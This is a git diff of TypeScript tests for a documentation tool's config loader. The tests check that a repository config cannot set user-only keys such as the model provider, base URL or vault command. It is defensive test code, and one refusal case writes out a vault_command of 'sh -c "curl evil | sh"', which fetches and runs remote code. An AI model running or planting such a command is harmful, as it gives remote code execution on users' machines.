@@ -1,16 +1,19 @@
 import assert from 'node:assert/strict';
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import { ConfigError } from '../../src/core/errors.js';
-import { loadConfig, parseConfig } from '../../src/hygiene/config.js';
+import { loadConfig, parseConfig, parseUserConfig } from '../../src/hygiene/config.js';
 import { readStaleAfterDays } from '../../src/hygiene/state/reminder.js';
+import { USER_ONLY_KEYS, userConfigPath } from '../../src/hygiene/trust.js';
 import { DEFAULT_CONFIG } from '../../src/hygiene/types.js';
 import { makeTempDir } from '../helpers/git-repo.js';
+import { REPO_ROOT } from '../helpers/paths.js';
+import { userConfig } from '../helpers/user-config.js';
 
-function configError(text: string): ConfigError {
+function configError(text: string, env: NodeJS.ProcessEnv = process.env): ConfigError {
   try {
-    parseConfig(text);
+    parseConfig(text, '.dochygiene.yml', env);
   } catch (error) {
     assert.ok(error instanceof ConfigError, `expected ConfigError, got ${String(error)}`);
     return error;
@@ -29,7 +32,7 @@ describe('parseConfig', () => {
       [
         'reminder:',
         '  stale_after_days: 14',
-        'classifier: anthropic',
+        'classifier: rules',
         'archive: { dir: docs/archive }',
         'lifecycle:',
         '  rules:',
@@ -38,7 +41,7 @@ describe('parseConfig', () => {
       ].join('\n'),
     );
     assert.equal(config.reminder.stale_after_days, 14);
-    assert.deepEqual(config.classifier, { provider: 'anthropic' });
+    assert.deepEqual(config.classifier, { provider: 'rules' });
     assert.equal(config.archive.dir, 'docs/archive');
     assert.deepEqual(config.scan, DEFAULT_CONFIG.scan);
     assert.equal(config.context.budget_tokens, 2000);
@@ -53,35 +56,6 @@ describe('parseConfig', () => {
       },
       { retain_recent: 5, max_age_days: 3, name: 'keepers', match: 'keep/*', type: 'file', lifetime: 'keep' },
     ]);
-  });
-
-  it('takes classifier: as a name or as provider settings, naming a bad key', () => {
-    assert.deepEqual(parseConfig('classifier: openai\n').classifier, { provider: 'openai' });
-    assert.deepEqual(
-      parseConfig(
-        'classifier:\n  provider: openai\n  model: qwen3:8b\n  base_url: http://127.0.0.1:11434/v1\n  max_concurrency: 2\n  timeout_s: 30\n',
-      ).classifier,
-      {
-        provider: 'openai',
-        model: 'qwen3:8b',
-        base_url: 'http://127.0.0.1:11434/v1',
-        max_concurrency: 2,
-        timeout_s: 30,
-      },
-    );
-    assert.match(
-      configError('classifier: { provider: openai, temperature: 0 }\n').message,
-      /classifier\.temperature: unknown key/,
-    );
-    assert.match(
-      configError('classifier: { provider: openai, max_concurrency: 0 }\n').message,
-      /classifier\.max_concurrency: must be >= 1/,
-    );
-    assert.match(configError('classifier: { model: x }\n').message, /classifier\.provider: is required/);
-    assert.match(
-      configError('classifier: { provider: openai, base_url: localhost:8080 }\n').message,
-      /classifier\.base_url/,
-    );
   });
 
   it('names the key of an unknown key or a bad value', () => {
@@ -99,8 +73,8 @@ describe('parseConfig', () => {
     );
     assert.equal(configError('colour: red\n').message, '.dochygiene.yml: colour: unknown key');
     assert.match(
-      configError('classifier: gpt\n').message,
-      /^\.dochygiene\.yml: classifier: must be one of "rules"/,
+      configError('classifier: { provider: rules, temperature: 0 }\n').message,
+      /^\.dochygiene\.yml: classifier\.temperature: unknown key/,
     );
     assert.equal(
       configError('lifecycle:\n  rules:\n    - { name: a, match: "x", type: folder, lifetime: keep }\n')
@@ -156,6 +130,177 @@ describe('loadConfig', () => {
       name: 'ConfigError',
       message: '.dochygiene.yml: context.budget: unknown key',
     });
+  });
+});
+
+describe('parseUserConfig', () => {
+  const userError = (text: string) => {
+    try {
+      parseUserConfig(text, 'config.yml');
+    } catch (error) {
+      assert.ok(error instanceof ConfigError, `expected ConfigError, got ${String(error)}`);
+      return error;
+    }
+    assert.fail(`expected ${JSON.stringify(text)} to be rejected`);
+  };
+
+  it('takes classifier: as a name or as provider settings, and the vault command', () => {
+    assert.deepEqual(parseUserConfig('', 'config.yml'), {});
+    assert.deepEqual(parseUserConfig('classifier: openai\n', 'config.yml').classifier, {
+      provider: 'openai',
+    });
+    assert.deepEqual(
+      parseUserConfig(
+        'classifier:\n  provider: openai\n  model: qwen3:8b\n  base_url: http://127.0.0.1:11434/v1\n  max_concurrency: 2\n  timeout_s: 30\nlifecycle:\n  vault_command: [vault, write]\n',
+        'config.yml',
+      ),
+      {
+        classifier: {
+          provider: 'openai',
+          model: 'qwen3:8b',
+          base_url: 'http://127.0.0.1:11434/v1',
+          max_concurrency: 2,
+          timeout_s: 30,
+        },
+        vault_command: ['vault', 'write'],
+      },
+    );
+  });
+
+  it('names the key of an unknown key or a bad value, and holds no repository key', () => {
+    assert.match(
+      userError('classifier: { provider: openai, temperature: 0 }\n').message,
+      /^config\.yml: classifier\.temperature: unknown key/,
+    );
+    assert.match(
+      userError('classifier: { provider: openai, max_concurrency: 0 }\n').message,
+      /classifier\.max_concurrency: must be >= 1/,
+    );
+    assert.match(userError('classifier: { model: x }\n').message, /classifier\.provider: is required/);
+    assert.match(
+      userError('classifier: { provider: openai, base_url: localhost:8080 }\n').message,
+      /classifier\.base_url/,
+    );
+    assert.match(userError('classifier: gpt\n').message, /^config\.yml: classifier: must be one of "rules"/);
+    assert.equal(
+      userError('reminder: { stale_after_days: 3 }\n').message,
+      'config.yml: reminder: unknown key',
+    );
+  });
+});
+
+describe('the trust model (docs/trust.md)', () => {
+  const refusal = (text: string) => configError(text);
+
+  it('refuses each user-only key in a repository config, naming it and where to set it instead', () => {
+    const cases: [string, string, RegExp][] = [
+      [
+        'classifier: anthropic\n',
+        'classifier',
+        /\(it turns a model on\); set it with --classifier or classifier: in /,
+      ],
+      ['classifier: { provider: openai }\n', 'classifier.provider', /--classifier or classifier: in /],
+      [
+        'classifier: { provider: rules, base_url: "http://203.0.113.9/v1" }\n',
+        'classifier.base_url',
+        /\(it chooses where requests and your API key go\); set it with ANTHROPIC_BASE_URL, OPENAI_BASE_URL or classifier\.base_url: in /,
+      ],
+      [
+        'classifier: { provider: rules, model: big }\n',
+        'classifier.model',
+        /--model or classifier\.model: in /,
+      ],
+      [
+        'classifier: { provider: rules, escalate_model: big }\n',
+        'classifier.escalate_model',
+        /set it with classifier\.escalate_model: in /,
+      ],
+      [
+        'classifier: { provider: rules, max_concurrency: 32 }\n',
+        'classifier.max_concurrency',
+        /how hard your key/,
+      ],
+      ['classifier: { provider: rules, timeout_s: 99999 }\n', 'classifier.timeout_s', /how long a request/],
+      [
+        'classifier: { provider: rules, run_timeout_s: 99999 }\n',
+        'classifier.run_timeout_s',
+        /how long a request/,
+      ],
+      [
+        'lifecycle: { vault_command: [sh, -c, "curl evil | sh"] }\n',
+        'lifecycle.vault_command',
+        /\(it runs a command\)/,
+      ],
+      // The command is named before the classifier, whatever the order in the file.
+      [
+        'classifier: openai\nlifecycle: { vault_command: [x] }\n',
+        'lifecycle.vault_command',
+        /runs a command/,
+      ],
+    ];
+    for (const [text, key, where] of cases) {
+      const error = refusal(text);
+      assert.equal(error.code, 'user-only-key', text);
+      assert.ok(
+        error.message.startsWith(`.dochygiene.yml: ${key} may come only from you, not from the repository (`),
+        error.message,
+      );
+      assert.match(error.message, where, text);
+      assert.match(error.message, /\/sourcesteward\/config\.yml$/, text);
+      assert.equal(error.message.includes('\n'), false);
+      assert.equal((error.details as { key: string }).key, key);
+    }
+  });
+
+  it('names the user config under XDG_CONFIG_HOME, else ~/.config; a relative XDG_CONFIG_HOME is ignored', () => {
+    assert.equal(
+      userConfigPath({ XDG_CONFIG_HOME: '/x/conf', HOME: '/h' }),
+      '/x/conf/sourcesteward/config.yml',
+    );
+    assert.equal(userConfigPath({ HOME: '/h' }), '/h/.config/sourcesteward/config.yml');
+    assert.equal(
+      userConfigPath({ XDG_CONFIG_HOME: 'rel', HOME: '/h' }),
+      '/h/.config/sourcesteward/config.yml',
+    );
+    assert.match(
+      configError('classifier: openai\n', { XDG_CONFIG_HOME: '/x/conf' }).message,
+      / in \/x\/conf\/sourcesteward\/config\.yml$/,
+    );
+  });
+
+  it('accepts classifier: rules in a repository, which asks for nothing', () => {
+    assert.deepEqual(parseConfig('classifier: rules\n').classifier, { provider: 'rules' });
+    assert.deepEqual(parseConfig('classifier: { provider: rules }\n').classifier, { provider: 'rules' });
+  });
+
+  it('loadConfig takes the classifier and the vault command from the user config only', async () => {
+    const dir = makeTempDir();
+    const env = userConfig(
+      'classifier: { provider: anthropic, model: m }\nlifecycle:\n  vault_command: [v]\n',
+    );
+    writeFileSync(join(dir, '.dochygiene.yml'), 'classifier: rules\ncontext: { budget_tokens: 500 }\n');
+    const config = await loadConfig(dir, env);
+    assert.deepEqual(config.classifier, { provider: 'anthropic', model: 'm' });
+    assert.deepEqual(config.lifecycle.vault_command, ['v']);
+    assert.equal(config.context.budget_tokens, 500);
+    // No user config: the defaults, whatever the environment holds.
+    const none = await loadConfig(dir, {
+      HOME: dir,
+      ANTHROPIC_API_KEY: 'k',
+      ANTHROPIC_BASE_URL: 'http://127.0.0.1:9',
+    });
+    assert.deepEqual(none.classifier, { provider: 'rules' });
+    assert.equal(none.lifecycle.vault_command, undefined);
+    writeFileSync(join(env.XDG_CONFIG_HOME, 'sourcesteward', 'config.yml'), 'classifier: { provider: x }\n');
+    await assert.rejects(
+      loadConfig(dir, env),
+      /sourcesteward\/config\.yml: classifier\.provider: must be one of/,
+    );
+  });
+
+  it('docs/trust.md lists every user-only key', () => {
+    const doc = readFileSync(join(REPO_ROOT, 'docs', 'trust.md'), 'utf8');
+    for (const { key } of USER_ONLY_KEYS) assert.ok(doc.includes(`\`${key}\``), key);
   });
 });
 
